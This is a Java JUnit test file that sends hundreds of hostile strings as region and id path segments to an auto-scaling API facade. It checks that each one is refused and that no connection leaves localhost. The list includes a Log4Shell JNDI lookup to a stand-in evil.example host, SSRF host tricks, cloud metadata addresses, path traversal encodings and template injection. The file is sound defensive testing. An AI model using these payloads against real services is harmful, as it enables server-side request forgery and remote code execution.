package dev.essfacade;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import dev.esssimulator.EssSimulator;
import jdk.jfr.Recording;
import jdk.jfr.consumer.RecordedEvent;
import jdk.jfr.consumer.RecordingFile;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What an attacker would write where a region or an id belongs. A region that became part
 * of a host name would send a signed request there.
 */
@FacadeTest
class HostileStringTests {

	private final EssSimulator ess;

	private final Caller caller;

	HostileStringTests(EssSimulator ess, Caller caller) {
		this.ess = ess;
		this.caller = caller;
	}

	@Test
	void fiveHundredHostileStringsAreRefusedAndLeadNowhere(@TempDir Path directory) throws IOException {
		List<String> hostile = hostileStrings();
		assertThat(hostile).hasSizeGreaterThanOrEqualTo(500);
		Set<String> before = LookedUpHosts.names();
		try (Recording recording = new Recording()) {
			recording.enable("jdk.SocketWrite").withoutThreshold().withoutStackTrace();
			recording.start();
			for (String text : hostile) {
				refused("/api/v1/regions/" + text + "/scaling-activities/asa-1", text);
				refused("/api/v1/regions/" + text + "/scaling-groups/asg-1/load-balancers/detach", text);
				refused(Caller.REGION + "/scaling-groups/" + text + "/load-balancers/detach", text);
				refused(Caller.REGION + "/scaling-activities/" + text, text);
			}
			recording.stop();
			Path file = directory.resolve("sockets.jfr");
			recording.dump(file);
			assertThat(hostsWrittenTo(file)).allMatch((host) -> host.equals("127.0.0.1"));
		}
		assertThat(LookedUpHosts.names()).isEqualTo(before);
		// What comes before a question mark may be a sound id: ESS was asked for that,
		// where it always is.
		assertThat(this.ess.received())
			.allMatch((request) -> "cn-hangzhou".equals(request.parameters().get("RegionId")));
	}

	/** Over a bare socket: no client library would let these strings pass. */
	private void refused(String path, String text) throws IOException {
		String body = path.endsWith("detach") ? TestGroups.CLB_DETACH : "";
		String request = (body.isEmpty() ? "GET " : "POST ") + path + " HTTP/1.1\r\nHost: 127.0.0.1\r\n"
				+ "Content-Type: application/json\r\nConnection: close\r\nContent-Length: " + body.length() + "\r\n\r\n"
				+ body;
		try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), this.caller.service().getPort())) {
			OutputStream out = socket.getOutputStream();
			out.write(request.getBytes(StandardCharsets.ISO_8859_1));
			out.flush();
			InputStream in = socket.getInputStream();
			String answer = new String(in.readAllBytes(), StandardCharsets.UTF_8);
			assertThat(answer).as(text).startsWith("HTTP/1.1 4");
			assertThat(answer).as(text).contains("Content-Type: application/problem+json");
		}
	}

	private static Set<String> hostsWrittenTo(Path file) throws IOException {
		Set<String> hosts = new TreeSet<>();
		for (RecordedEvent event : RecordingFile.readAllEvents(file)) {
			if (event.getEventType().getName().equals("jdk.SocketWrite")) {
				hosts.add(event.getString("address"));
			}
		}
		return hosts;
	}

	private static List<String> hostileStrings() {
		List<String> parts = List.of(".", "..", "/", "\\", "@", "#", "?", ":", ";", "%", "&", "=", "+", "*", "$", "'",
				"\"", "<", ">", "|", "^", "`", "{", "}", "[", "]", "(", ")", "!", "~", ",", " ", "\t", "\r\n", "\n",
				"\0", "\u001b[31m", "\u2028", "\u202e", "\ufeff", "\uff0e", "\uff0f", "\u3002", "\u0130", "%2e", "%2f",
				"%5c", "%00", "%0d%0a", "%252f", "..%2f", "%c0%ae", "@evil.example", ".evil.example", "#evil.example",
				"?evil.example", ":443@evil.example", "evil.example/", "//evil.example", "http://evil.example",
				"127.0.0.1:1", "[::1]", "0x7f000001", "2130706433", "169.254.169.254", "100.100.100.200", "localhost",
				"${jndi:ldap://evil.example/a}", "{{7*7}}", "xn--e1afmkfd", "\u043f\u0440\u0438\u043c\u0435\u0440",
				"a".repeat(65), "a".repeat(6_000));
		List<String> shapes = List.of("%s", "cn-hangzhou%s", "%scn-hangzhou", "cn%shangzhou", "%s%s", "cn-hangzhou.%s",
				"-%s");
		return parts.stream()
			.flatMap((part) -> shapes.stream().map((shape) -> shape.replace("%s", part)))
			.flatMap((text) -> Stream.of(text, URLEncoder.encode(text, StandardCharsets.UTF_8)))
			// A bare line break ends the request line: what is left of it is another,
			// harmless request.
			.filter((text) -> !text.contains("\n"))
			// "." and ".." are resolved away by every client and server, and an id may
			// well be 127 letters long.
			.filter((text) -> !text.matches("[A-Za-z0-9][A-Za-z0-9_-]{0,63}"))
			.distinct()
			.collect(Collectors.toList());
	}

}
